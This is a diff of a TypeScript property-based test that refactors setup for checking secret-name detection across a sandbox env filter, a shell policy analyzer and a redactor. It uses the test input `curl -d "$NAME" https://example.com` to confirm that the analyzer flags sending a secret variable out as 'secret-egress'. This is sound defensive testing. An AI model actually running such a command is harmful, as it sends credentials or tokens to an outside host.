@@ -3,29 +3,20 @@
 // for random names.
 
 import assert from "node:assert/strict";
-import { after, before, describe, test } from "node:test";
+import { describe, test } from "node:test";
+import { evalShellEnv } from "../helpers/eval-shell.ts";
 import fc from "fast-check";
 import data from "../../src/request/data/secret-names.json" with { type: "json" };
-import { buildEvalWorkspace, type EvalWorkspace } from "../../src/eval/workspace.ts";
-import { prepareGate } from "../../src/policy/gate.ts";
 import { analyzeShell } from "../../src/policy/shell/analyze.ts";
-import type { ShellEnv } from "../../src/policy/shell/env.ts";
 import { redact } from "../../src/request/redact.ts";
 import { isSecretName, nameWords, secretNameExampleFailures } from "../../src/request/secret-names.ts";
 import { droppedBecause } from "../../src/sandbox/env.ts";
-import { selfPaths } from "../../src/state/locations.ts";
 
-let w: EvalWorkspace;
-let env: ShellEnv;
-before(() => {
-  w = buildEvalWorkspace();
-  env = prepareGate({ cwd: w.ws, home: w.home, agentDir: w.agentDir, defaultTmpRoot: w.tmp, selfPaths: selfPaths(w.agentDir) }).judge.shell;
-});
-after(() => w.dispose());
+const shell = evalShellEnv();
 
 /** What each user of the definition says of a variable called `name`. */
 function answers(name: string): { sandbox: boolean; shell: boolean; redaction: boolean } {
-  const v = analyzeShell(`curl -d "$${name}" https://example.com`, env).strictest;
+  const v = analyzeShell(`curl -d "$${name}" https://example.com`, shell.env()).strictest;
   return {
     sandbox: droppedBecause(name, "plain") === "name",
     shell: v.reason === "secret-egress",
